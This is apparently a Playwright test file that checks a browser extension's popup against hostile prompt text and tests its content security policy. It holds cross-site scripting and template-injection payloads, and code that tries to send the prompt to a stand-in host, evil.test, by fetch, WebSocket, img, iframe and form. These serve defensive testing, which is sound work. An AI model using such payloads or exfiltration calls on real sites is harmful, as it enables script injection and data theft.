import type {Page, Request} from 'playwright-core';
import {afterEach, beforeEach, describe, expect, test} from 'vitest';
import {type Arena, useArena} from '../../helpers/hostile.ts';
import {promptText} from '../../helpers/popup.ts';
import {waitFor} from '../../helpers/wait.ts';

/** The extension's own pages, when text is hostile, and what would still hold if one of them had a fault. */

let arena: Arena;
let page: Page;
const violations: string[] = [];
useArena(started => {
	arena = started;
});
beforeEach(async () => {
	page = await arena.browser.openPopupPage();
	page.on('dialog', dialog => {
		violations.push(dialog.message());
		void dialog.dismiss();
	});
	await page.locator('.class-rows[aria-busy="false"] .class-row').first().waitFor();
});
afterEach(() => page.close());

describe('a prompt', () => {
	test.each([
		['markup', '<img src=x onerror=alert(1)><script>alert(2)</script><svg onload=alert(3)>'],
		['a script address', 'javascript:alert(1)//'],
		['right-to-left overrides', 'abc \u202e dcba \u2066 x \u2069 \u202c end'],
		['null and control characters', 'a\u0000b\u0007c\u001bd\u0085e\u2028f\u2029g'],
		['lone surrogates', 'a\ud83db\udc00c'],
		['two thousand combining marks', `Z${'\u0301'.repeat(2000)}algo`],
		['characters outside every font', '\u{10ffff}\u{e0001}\u{1d173}'],
		['special tokens', '<|endoftext|><|endoftext|>'],
		['a template', '{{7*7}} <%= 7*7 %> #{7*7}'],
	])('with %s is text, its classes come, and nothing runs', async (_, text) => {
		const before = await page.locator('script').count();
		await page.getByRole('textbox', {name: 'Prompt'}).fill(text);
		await page
			.locator('.class-rows[aria-busy="true"]')
			.waitFor({timeout: 5000})
			.catch(() => {});
		await page.locator('.class-rows[aria-busy="false"] .class-row').first().waitFor();
		expect(await page.locator('img[src="x"], svg[onload]').count()).toBe(0);
		expect(await page.locator('script').count()).toBe(before);
		expect(violations).toEqual([]);
		expect(await page.getByRole('alert').count()).toBe(0);
	});
});

test.each([
	['letters', 'a'.repeat(50_000)],
	['signs', '!'.repeat(50_000)],
	['emoji', '\u{1f600}'.repeat(25_000)],
])(
	'50,000 %s in one word are answered, in a popup opened again too, and so is the prompt after them',
	async (_, text) => {
		const area = page.getByRole('textbox', {name: 'Prompt'});
		await area.fill(text);
		const answered = async (end: string) => {
			// The last tokens of the text are cells once its own answer has come.
			await page.locator('.prompt .mirror .cell').last().filter({hasText: end}).waitFor();
			await page.locator('.prompt .mirror .pending').waitFor({state: 'detached'});
			await page.locator('.class-rows[aria-busy="false"] .class-row').first().waitFor();
		};
		await answered(text.slice(-2));
		await page.reload();
		await answered(text.slice(-2));
		await area.fill('The capital of France is');
		await answered(' is');
		expect(await page.getByRole('alert').count()).toBe(0);
	},
);

test('a text in the inbox that is no inbox is left alone', async () => {
	for (const inbox of [
		null,
		'text',
		{text: 5},
		{text: 'x', view: '<b>'},
		{text: 'x', source: {tabId: 'a'}, view: 'classes', at: 0},
	]) {
		await page.evaluate(value => chrome.storage.session.set({inbox: value}), inbox);
	}
	await page.reload();
	await page.locator('.class-rows[aria-busy="false"] .class-row').first().waitFor();
	expect(await promptText(page)).not.toBe('x');
});

describe('the security policy', () => {
	test('allows no code from text', async () => {
		// In a task of its own: what the debugger evaluates is let through.
		const outcome = await page.evaluate(
			() =>
				new Promise(resolve =>
					setTimeout(() => {
						try {
							// biome-ignore lint/security/noGlobalEval: it must be refused
							resolve(globalThis.eval('1'));
						} catch {
							resolve('refused');
						}
					}),
				),
		);
		expect(outcome).toBe('refused');
	});

	test.each(['http://evil.test/x.js', 'data:text/javascript,globalThis.ran=1', 'inline'])(
		'allows no script from %s',
		async source => {
			await page.evaluate(source => {
				const script = document.createElement('script');
				if (source === 'inline') script.textContent = 'globalThis.ran = 1';
				else script.src = source;
				document.head.append(script);
				return source === 'inline' || new Promise(resolve => script.addEventListener('error', resolve));
			}, source);
			expect(await page.evaluate(() => (globalThis as {ran?: number}).ran)).toBeUndefined();
		},
	);

	// Other `https:` addresses are allowed, so that models can be had from a Hub of one's own.
	test.each(['http://evil.test/', 'ws://evil.test/'])('lets nothing out to %s', async url => {
		const outcome = await page.evaluate(
			url =>
				url.startsWith('ws')
					? new Promise(resolve => {
							try {
								new WebSocket(url).addEventListener('error', () => resolve('refused'));
							} catch {
								resolve('refused');
							}
						})
					: fetch(url, {mode: 'no-cors', method: 'POST', body: 'prompt'}).then(
							() => 'sent',
							() => 'refused',
						),
			url,
		);
		expect(outcome).toBe('refused');
	});

	test.each(['img', 'iframe', 'object', 'link', 'form'])('lets nothing out by a %s', async kind => {
		const asked: Request[] = [];
		page.on('request', request => request.url().includes('evil.test') && asked.push(request));
		await page.evaluate(async kind => {
			const url = 'http://evil.test/?prompt';
			const refused = new Promise(resolve =>
				document.addEventListener('securitypolicyviolation', resolve, {once: true}),
			);
			const element = document.createElement(kind);
			if (element instanceof HTMLFormElement) element.action = url;
			else if (element instanceof HTMLLinkElement) Object.assign(element, {rel: 'stylesheet', href: url});
			else if (element instanceof HTMLObjectElement) element.data = url;
			else (element as HTMLImageElement).src = url;
			document.body.append(element);
			if (element instanceof HTMLFormElement) element.submit();
			await refused;
		}, kind);
		// The browser tells of some requests that it stops before they leave.
		await waitFor('the end of what was asked', () => asked.every(request => request.failure()));
		expect(asked.filter(request => request.failure()?.errorText !== 'csp')).toEqual([]);
		expect(page.url()).toBe(arena.browser.url('src/entrypoints/popup/index.html'));
	});
});
